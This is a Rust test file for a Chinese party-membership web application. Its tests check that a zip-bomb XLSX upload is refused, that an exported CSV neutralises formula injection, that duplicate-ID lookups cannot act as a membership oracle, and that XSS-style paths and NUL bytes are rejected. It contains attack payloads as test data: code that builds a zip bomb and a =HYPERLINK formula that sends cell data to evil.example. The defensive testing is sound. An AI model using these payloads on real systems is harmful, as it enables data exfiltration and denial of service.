    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for i in 0..src.len() {
        let mut f = src.by_index(i).expect("entry");
        let name = f.name().to_string();
        w.start_file(&name, opts).expect("start");
        if name == "xl/worksheets/sheet1.xml" {
            use std::io::Write;
            w.write_all(b"<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>").expect("w");
            let chunk = vec![b'A'; 1 << 20];
            for _ in 0..64 {
                w.write_all(&chunk).expect("w");
            }
            w.write_all(b"</t></is></c></row></sheetData></worksheet>")
                .expect("w");
        } else {
            std::io::copy(&mut f, &mut w).expect("copy");
        }
    }
    let bomb = w.finish().expect("finish").into_inner();
    assert!(bomb.len() < 1024 * 1024, "{} bytes packed", bomb.len());
    let upload = |file: Vec<u8>, name: &'static str| {
        let boundary = "----bomb";
        let mut body = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n{csrf}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"mode\"\r\n\r\nall\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\r\n").into_bytes();
        body.extend_from_slice(&file);
        body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
        Request::builder()
            .method("POST")
            .uri("/members/import")
            .header(header::COOKIE, format!("dj_session={session}"))
            .header(
                header::CONTENT_TYPE,
                format!("multipart/form-data; boundary={boundary}"),
            )
            .body(Body::from(body))
            .expect("req")
    };
    let (s, _, html) = app.send(upload(bomb, "bomb.xlsx")).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        String::from_utf8_lossy(&html).contains("压缩"),
        "{}",
        String::from_utf8_lossy(&html)
    );
    // a cell of 2,000 characters, and the refused attempts on the record
    let long = format!(
        "姓名,身份证号码,所在党支部,入党日期,党员状态\n{},x,x,x,x\n",
        "长".repeat(2000)
    );
    let (s, _, html) = app.send(upload(long.into_bytes(), "long.csv")).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(String::from_utf8_lossy(&html).contains("超过1000个字"));
    assert_eq!(
        app.count("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'member.import'")
            .await,
        2,
        "refused attempts audited"
    );
    // the server answers as before
    assert_eq!(
        app.page(&session, "GET", "/members", None).await.0,
        StatusCode::OK
    );
}

/// Member export as CSV: a cell a spreadsheet would run as a formula is written as text.
#[tokio::test]
async fn csv_cells_never_start_a_formula() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let branch = app
            .org(Some(city), "东关村党支部", "branch", "village")
            .await;
        let mut input = member_input(branch, "公式测试", 861);
        input.work_unit = "=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")".into();
        input.mobile_destination = Some("@SUM(1+1)".into());
        input.grid_role = Some("mobile".into());
        app.member_with(input).await;
        let staff = app.account("dept", city, "org_staff", None).await;
        let (s, _, body) = app
            .send(
                Request::builder()
                    .uri("/api/v1/members/export?format=csv")
                    .header(header::AUTHORIZATION, format!("Bearer {staff}"))
                    .body(Body::empty())
                    .expect("req"),
            )
            .await;
        assert_eq!(s, StatusCode::OK);
        let text = String::from_utf8_lossy(&body).to_string();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for rec in r.records() {
            for cell in rec.expect("row").iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        assert!(
            text.contains("'=HYPERLINK") && text.contains("'@SUM"),
            "{text}"
        );
    })
    .await;
}

/// A number registered outside the caller's subtree is answered neutrally, counted, and after
/// the limit the caller is held off; every attempt is audited.
#[tokio::test]
async fn membership_outside_the_subtree_is_not_an_oracle() {
    each_backend(|app| async move {
        let city = app.org(None, "中共测试市委", "committee", "city").await;
        let a = app
            .org(Some(city), "中共甲县委", "committee", "county")
            .await;
        let b = app
            .org(Some(city), "中共乙县委", "committee", "county")
            .await;
        let ba = app.org(Some(a), "甲村党支部", "branch", "village").await;
        let bb = app.org(Some(b), "乙村党支部", "branch", "village").await;
        for i in 0..25u16 {
            app.member(bb, &format!("乙{i}"), 870 + i).await;
        }
        let county_a = app.account("deptA", a, "org_staff", None).await;
        // the same number inside: named; outside: the neutral sentence
        let inside = app.member(ba, "甲", 900).await;
        let _ = inside;
        let r = app
            .api(
                &county_a,
                "POST",
                "/api/v1/members",
                Some(serde_json::to_value(member_input(ba, "甲二", 900)).expect("json")),
            )
            .await;
        assert_eq!(
            r.1["fields"][0]["message"], "该身份证号码已在本辖区党员库中",
            "{r:?}"
        );
        let mut held = false;
        for i in 0..25u16 {
            let (s, e) = app
                .api(
                    &county_a,
                    "POST",
                    "/api/v1/members",
                    Some(serde_json::to_value(member_input(ba, "探测", 870 + i)).expect("json")),
                )
                .await;
            if s == StatusCode::TOO_MANY_REQUESTS {
                held = true;
                assert!(
                    i >= dangjian::member::io::OUTSIDE_HITS as u16,
                    "held off after the limit, not before ({i})"
                );
                break;
            }
            assert_eq!(
                (s, e["code"].as_str(), e["message"].as_str()),
                (
                    StatusCode::UNPROCESSABLE_ENTITY,
                    Some("member.registered_elsewhere"),
                    Some(dangjian::member::store::DUPLICATE_ELSEWHERE)
                )
            );
        }
        assert!(held, "an account that keeps asking is held off");
        assert!(
            app.count("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'member.create_refused'")
                .await
                >= 20
        );
    })
    .await;
}

/// A page whose address or form does not parse answers with the error page, never the
/// framework's plain text echoing the input.
#[tokio::test]
async fn malformed_addresses_get_the_error_page() {
    let app = TestApp::new(Backend::Sqlite).await;
    let root = app.org(None, "中共测试市委", "committee", "city").await;
    let (session, _) = app.browser("dept", root, "org_staff").await;
    for path in [
        "/members/%3E%3Cimg%20src%3Dx%3E",
        "/orgs?id=abc",
        "/recruits/99999999999999999999999",
    ] {
        let (s, h, html) = app.page(&session, "GET", path, None).await;
        assert!(s.is_client_error(), "{path}: {s}");
        assert!(
            h.get(header::CONTENT_TYPE)
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .starts_with("text/html"),
            "{path}"
        );
        assert!(
            !html.contains("<img src=x>")
                && !html.contains("Cannot parse")
                && !html.contains("Invalid URL"),
            "{path}: {html}"
        );
    }
}

#[tokio::test]
async fn a_nul_character_is_refused_as_malformed_not_a_server_error() {
    each_backend(|app| async move {
        let p = province(&app).await;
        let county = app.account("county", p.counties[0], "org_staff", None).await;
        // in a query string
        for path in ["/api/v1/orgs/search?q=%00", "/api/v1/members?q=a%00b", "/api/v1/cadres?name=%00"] {
            let (s, v) = app.api(&county, "GET", path, None).await;
            assert_eq!(s, StatusCode::BAD_REQUEST, "{path}: {v}");
            assert_eq!(v["code"], "bad_request", "{path}: {v}");
        }
        // in JSON, escaped
        let before = app.count("SELECT COUNT(*) AS n FROM cadres").await;
        let (s, v) = app.api(&county, "POST", "/api/v1/cadres", Some(json!({"name": "王\u{0}立新", "managed_by": p.counties[0], "unit": "县农业农村局",
            "position": "科员", "rank": "section_deputy", "category": "first_secretary"}))).await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
        assert_eq!(app.count("SELECT COUNT(*) AS n FROM cadres").await, before, "nothing written");
        // the same without it is taken
        ok(app.api(&county, "POST", "/api/v1/cadres", Some(json!({"name": "王立新", "managed_by": p.counties[0], "unit": "县农业农村局",
            "position": "科员", "rank": "section_deputy", "category": "first_secretary"}))).await);
        // in a form
        let (session, csrf) = app.browser("county_w", p.counties[0], "org_staff").await;
        let (s, _, _) = app.page(&session, "POST", "/first-secretaries/rounds", Some(&format!("_csrf={csrf}&name=a%00b&year=2026"))).await;
        assert_eq!(s, StatusCode::BAD_REQUEST);
        let (s, _, _) = app.page(&session, "GET", "/members?q=%00", None).await;
        assert_eq!(s, StatusCode::BAD_REQUEST);
    })
    .await;
}
